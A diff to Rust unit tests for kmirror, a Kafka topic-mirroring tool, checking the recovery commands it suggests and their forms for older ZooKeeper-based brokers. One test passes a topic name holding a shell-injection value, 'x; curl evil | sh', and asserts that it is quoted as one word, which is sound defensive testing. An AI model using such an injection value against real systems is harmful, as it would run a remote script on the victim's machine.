@@ -3,8 +3,9 @@
 use std::fmt::Write;
 
 use super::*;
+use crate::model::VersionRange;
 use crate::report::fixture;
-use crate::report::shell::Addresses;
+use crate::report::shell::{Addresses, Versions};
 
 fn described(reason: &BlockedReason, place: &Place<'_>) -> String {
     let remedy = remedy(reason, place);
@@ -25,6 +26,7 @@ fn every_reason_has_its_commands() {
         target_topic: Some(&target_topic),
         partition: Some(3),
         addresses: &addresses,
+        versions: &Versions::default(),
         options: "-c kmirror.toml",
     };
     let texts: String = fixture::blocked_reasons().iter().map(|reason| described(reason, &place)).collect();
@@ -77,6 +79,15 @@ fn every_reason_has_its_commands() {
         kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=OFFSET
       go on where another group stands:
         kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=group:GROUP
+    written_by_other_flow: nothing is copied before you decide, for what is there already would be there twice; group kmirror.old is left as it is
+      it was renamed: go on where it has stopped, in all partitions:
+        kmirror run -c kmirror.toml --adopt eu-to-us=kmirror.old
+      both are wanted: give the topics other names on the target, in [flows.eu-to-us] of the configuration:
+        rename = { prefix = "eu-to-us", separator = "." }
+      copy all again, knowing that what is there already is written twice:
+        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
+      the same for all of its topics, in [flows.eu-to-us] of the configuration:
+        target_not_empty = "append"
     retention_overtook: these records are gone from the source and will be missing on the target: go on behind the gap (100..250), and give the source a longer retention if it is to happen less
       go on with the oldest record there is:
         kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
@@ -123,6 +134,7 @@ fn every_choice_the_engine_offers_has_a_command() {
         target_topic: None,
         partition: Some(0),
         addresses: &addresses,
+        versions: &Versions::default(),
         options: "",
     };
     for reason in fixture::blocked_reasons() {
@@ -133,6 +145,7 @@ fn every_choice_the_engine_offers_has_a_command() {
             match choice {
                 Choice::Retry => {}
                 Choice::ResumeAt => assert!(has("--resume-at f:t:0="), "{}", reason.label()),
+                Choice::Adopt => assert!(has("--adopt f=kmirror.old"), "{}", reason.label()),
                 Choice::SkipRecord => assert!(has("--skip-record f:t:0@4711 --yes"), "{}", reason.label()),
             }
         }
@@ -143,8 +156,15 @@ fn every_choice_the_engine_offers_has_a_command() {
 fn a_hostile_name_is_one_quoted_word() {
     let addresses = Addresses::default();
     let (flow, topic) = ("f".into(), "t".into());
-    let place =
-        Place { flow: &flow, topic: &topic, target_topic: None, partition: None, addresses: &addresses, options: "" };
+    let place = Place {
+        flow: &flow,
+        topic: &topic,
+        target_topic: None,
+        partition: None,
+        addresses: &addresses,
+        versions: &Versions::default(),
+        options: "",
+    };
     let reason = BlockedReason::SourceTopicGone { topic: "x; curl evil | sh".into() };
     let ways = remedy(&reason, &place).ways;
     assert_eq!(ways[0].command, "kafka-topics.sh --bootstrap-server SOURCE --describe --topic 'x; curl evil | sh'");
@@ -166,4 +186,60 @@ fn the_missing_right_is_named_as_kafka_does() {
     for (side, operation, expected) in operations {
         assert_eq!(acl_operation(side, operation), expected, "{operation}");
     }
+}
+
+/// The tools that come with old brokers are told where to go in other ways.
+#[test]
+fn commands_are_those_of_the_brokers_version() {
+    let addresses = Addresses { source: "eu:9092".into(), target: "us:9092".into() };
+    let (flow, topic, target_topic) = ("f".into(), "orders".into(), "eu.orders".into());
+    let commands = |version: &[u16]| {
+        let version = Some(VersionRange::new(version, version));
+        let versions = Versions { source: version.clone(), target: version };
+        let place = Place {
+            flow: &flow,
+            topic: &topic,
+            target_topic: Some(&target_topic),
+            partition: Some(3),
+            addresses: &addresses,
+            versions: &versions,
+            options: "",
+        };
+        let mut text = String::new();
+        for label in
+            ["target_topic_missing", "partition_count", "record_too_large", "topic_authorization", "corrupt_batch"]
+        {
+            let reasons = fixture::blocked_reasons();
+            let reason = reasons.iter().find(|reason| reason.label() == label).expect("a reason of this name");
+            let way = &remedy(reason, &place).ways[0];
+            writeln!(text, "{}:\n  {}", way.effect, way.command).expect("a String");
+        }
+        text
+    };
+    insta::assert_snapshot!(commands(&[0, 9]), @r#"
+    create the target topic; put the host of their ZooKeeper for ZOOKEEPER:
+      kafka-topics.sh --zookeeper ZOOKEEPER:2181 --create --topic eu.orders --partitions 12 --replication-factor 3
+    add partitions to the target topic; put the host of their ZooKeeper for ZOOKEEPER:
+      kafka-topics.sh --zookeeper ZOOKEEPER:2181 --alter --topic eu.orders --partitions 12
+    raise the target topic's limit; put the host of their ZooKeeper for ZOOKEEPER:
+      kafka-configs.sh --zookeeper ZOOKEEPER:2181 --alter --entity-type topics --entity-name eu.orders --add-config max.message.bytes=2000000
+    allow it (put the user's name for PRINCIPAL); put the host of their ZooKeeper for ZOOKEEPER:
+      kafka-acls.sh --authorizer-properties zookeeper.connect=ZOOKEEPER:2181 --add --allow-principal User:PRINCIPAL --operation Write --topic eu.orders
+    see whether another client can read it:
+      kafka-simple-consumer-shell.sh --broker-list eu:9092 --topic orders --partition 3 --offset 4711 --max-messages 1
+    "#);
+    insta::assert_snapshot!(commands(&[2, 4]), @r#"
+    create the target topic:
+      kafka-topics.sh --bootstrap-server us:9092 --create --topic eu.orders --partitions 12
+    add partitions to the target topic:
+      kafka-topics.sh --bootstrap-server us:9092 --alter --topic eu.orders --partitions 12
+    raise the target topic's limit; put the host of their ZooKeeper for ZOOKEEPER:
+      kafka-configs.sh --zookeeper ZOOKEEPER:2181 --alter --entity-type topics --entity-name eu.orders --add-config max.message.bytes=2000000
+    allow it (put the user's name for PRINCIPAL):
+      kafka-acls.sh --bootstrap-server us:9092 --add --allow-principal User:PRINCIPAL --operation Write --topic eu.orders
+    see whether another client can read it:
+      kafka-console-consumer.sh --bootstrap-server eu:9092 --topic orders --partition 3 --offset 4711 --max-messages 1
+    "#);
+    assert_eq!(commands(&[2, 5]), commands(&[4, 0]));
+    assert!(!commands(&[2, 5]).contains("ZOOKEEPER"));
 }
